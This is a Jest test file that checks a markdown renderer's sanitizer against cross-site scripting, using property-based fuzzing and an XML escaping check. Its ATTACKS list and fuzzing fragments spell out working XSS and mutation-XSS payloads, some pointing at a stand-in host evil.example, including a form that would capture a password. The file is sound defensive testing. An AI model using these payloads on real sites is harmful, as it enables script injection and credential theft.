/** @jest-environment jsdom */
import fc from 'fast-check'
import { renderMarkdown } from '@/lib/content/markdown'
import { xmlText } from '@/lib/seo/xml'

/** The HTML as a browser's parser understands it, which is what an attack is written for. */
function parsed(markdown: string): HTMLElement {
  const page = new DOMParser().parseFromString(renderMarkdown(markdown), 'text/html')
  return page.body
}
const TAGS = new Set(
  'h2 h3 h4 h5 h6 p br hr blockquote ul ol li a img strong em b i s del sub sup kbd code pre div table thead tbody tr th td'.split(
    ' ',
  ),
)
const ATTRIBUTES =
  /^(href|title|rel|src|alt|width|height|loading|decoding|referrerpolicy|start|tabindex|class)$/

function expectHarmless(markdown: string): void {
  for (const element of parsed(markdown).querySelectorAll('*')) {
    expect(TAGS).toContain(element.localName)
    for (const { name, value } of element.attributes) {
      expect(name).toMatch(ATTRIBUTES)
      if (name === 'href') expect(value).toMatch(/^(https?:|mailto:|tel:|\/(?!\/)|#|[^:]*$)/i)
      if (name === 'src') expect(value).toMatch(/^(https:|\/(?!\/)|[^:]*$)/i)
    }
  }
}

const ATTACKS = [
  '<script>alert(1)</script>',
  '<SCRIPT src=//evil.example></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>1</script>">',
  '<style>*{display:none}</style>',
  '<p style="position:fixed">x</p>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content=0>',
  '<base href=//evil.example>',
  '<form action=//evil.example><input name=password></form>',
  '<object data=x></object><embed src=x>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<div class="fixed inset-0" id=main>x</div>',
  '`<script>alert(1)</script>`',
  '<a href="//evil.example">x</a>',
  '<!--<img src=x onerror=alert(1)>-->',
  '<x onclick=alert(1)>y',
  '<a href="vbscript:x">x</a>',
  '![x](http://example.com/tracker.png)',
  `<a title='"><img src=x onerror=alert(1)>' href=/a>x</a>`,
  `[x](/a 'say " onclick=alert(1) x="')`,
  `<img alt='" onerror="alert(1)' src="https://example.com/a.png">`,
  `<ol start='"><svg onload=alert(1)>'><li>x</ol>`,
  '<p title="&lt;img src=x onerror=alert(1)&gt;">&lt;img src=x onerror=alert(1)&gt;</p>',
]

test.each(ATTACKS)('%s comes out harmless', (attack) => {
  expectHarmless(attack)
  expectHarmless(`# Heading\n\n- item ${attack}\n\n> ${attack}`)
})

test('attacks stuck together come out harmless too', () => {
  fc.assert(
    fc.property(
      fc.array(fc.oneof(fc.constantFrom(...ATTACKS), fc.string({ maxLength: 8 })), {
        maxLength: 6,
      }),
      (parts) => expectHarmless(parts.join('')),
    ),
    { numRuns: 200 },
  )
})

// Pieces of markup that mean one thing to one parser and another to the next.
const PIECES =
  `< > </ /> " ' = & &lt; &#60; &#x3c; &amp;lt; <! <!-- --> --!> <![CDATA[ ]]> <? ?> \u0000 \u000c \n \n\n \t \` * ** [ ]( ) ![
   script style svg math mtext mglyph malignmark foreignObject annotation-xml desc title textarea noscript template
   xmp plaintext select option table td tr caption p b i a img pre code div h1 br iframe object form input
   href= src= onerror= onload= style= srcdoc= xlink:href= class= id= javascript: jav&#x09;ascript: data:text/html,
   https://example.com //evil.example alert(1) x`
    .split(/\s+/)
    .map((piece) =>
      piece.replace(/\\u([\da-f]{4})/g, (_, hex: string) => String.fromCharCode(parseInt(hex, 16))),
    )
    .concat([' ', '\n', '\n\n', '\t', '\u0000', '\u000c', '\u00a0'])

test('whatever pieces of markup are put together, another parser finds nothing but the allowed, twice over', () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.oneof(
          fc.constantFrom(...PIECES),
          fc.constantFrom(...PIECES).map((piece) => `<${piece} `),
          fc.constantFrom(...PIECES).map((piece) => `</${piece}>`),
        ),
        { maxLength: 30 },
      ),
      (parts) => {
        const text = parts.join('')
        expectHarmless(text)
        // What a browser writes of it, as when a page copies its own HTML, reads the same.
        const body = parsed(text)
        const again = new DOMParser().parseFromString(body.innerHTML, 'text/html').body
        for (const element of again.querySelectorAll('*')) {
          expect(TAGS).toContain(element.localName)
          expect(element.namespaceURI).toBe('http://www.w3.org/1999/xhtml')
        }
      },
    ),
    { numRuns: 3000 },
  )
}, 60_000)

test('a picture that is refused leaves its description', () => {
  expect(parsed('![A microphone](http://example.com/a.png)').textContent).toContain('A microphone')
})

test('what a script or a style says is gone with it; code that shows one stays', () => {
  expect(parsed('before <script>alert(1)</script> after').textContent).not.toContain('alert')
  expect(parsed('<style>*{color:red}</style>').textContent).not.toContain('color')
  expect(parsed('`<script>alert(1)</script>`').querySelector('code')?.textContent).toBe(
    '<script>alert(1)</script>',
  )
})

test('links: other hosts get a rel, ours and mail none', () => {
  const link = (markdown: string) => parsed(markdown).querySelector('a')
  expect(link('[x](https://example.com "Name")')?.outerHTML).toBe(
    '<a href="https://example.com" title="Name" rel="noopener noreferrer">x</a>',
  )
  expect(link('see https://example.com/page')?.getAttribute('rel')).toBe('noopener noreferrer')
  expect(link('[x](/booking)')?.outerHTML).toBe('<a href="/booking">x</a>')
  expect(link('[x](mailto:a@example.com)')?.outerHTML).toBe('<a href="mailto:a@example.com">x</a>')
})

test.each([
  ['# a\n\n## b\n\n### c', 'H2 H3 H4'],
  ['## a\n\n### b', 'H2 H3'],
  ['### a\n\n#### b', 'H2 H3'],
  ['# a\n\n###### b', 'H2 H6'],
  ['<h1>a</h1>', 'H2'],
])('headings of %j are %s', (markdown, headings) => {
  expect(
    [...parsed(markdown).querySelectorAll('h1,h2,h3,h4,h5,h6')]
      .map(({ tagName }) => tagName)
      .join(' '),
  ).toBe(headings)
})

test('lists, quotes, code, tables that scroll by keyboard, pictures that wait', () => {
  const body = parsed(
    '1. a\n2. b\n   - c\n\n> q\n\n```js\nx < 1\n```\n\n| A | B |\n|:-|-:|\n| 1 | 2 |\n\n~~old~~ **new** *odd*\n\n![Alt](https://example.com/a.png)',
  )
  expect(body.querySelectorAll('ol > li')).toHaveLength(2)
  expect(body.querySelector('ol ul li')?.textContent).toBe('c')
  expect(body.querySelector('blockquote')?.textContent?.trim()).toBe('q')
  expect(body.querySelector('pre[tabindex="0"] code')?.textContent).toBe('x < 1\n')
  expect(body.querySelector('div.scroll[tabindex="0"] > table td.text-right')?.textContent).toBe(
    '2',
  )
  expect([
    body.querySelector('s')?.textContent,
    body.querySelector('strong')?.textContent,
    body.querySelector('em')?.textContent,
  ]).toEqual(['old', 'new', 'odd'])
  expect(body.querySelector('img')?.outerHTML).toBe(
    '<img src="https://example.com/a.png" alt="Alt" loading="lazy" decoding="async" referrerpolicy="no-referrer">',
  )
})

test('any text survives the way through XML', () => {
  fc.assert(
    fc.property(fc.string({ unit: 'binary' }), (text) => {
      const read = new DOMParser().parseFromString(
        `<a b="${xmlText(text)}">${xmlText(text)}</a>`,
        'text/xml',
      )
      expect(read.querySelector('parsererror')).toBeNull()
    }),
  )
  expect(xmlText(`<a href="x">&'\u0000\ud800`)).toBe('&lt;a href=&quot;x&quot;&gt;&amp;&apos;')
})
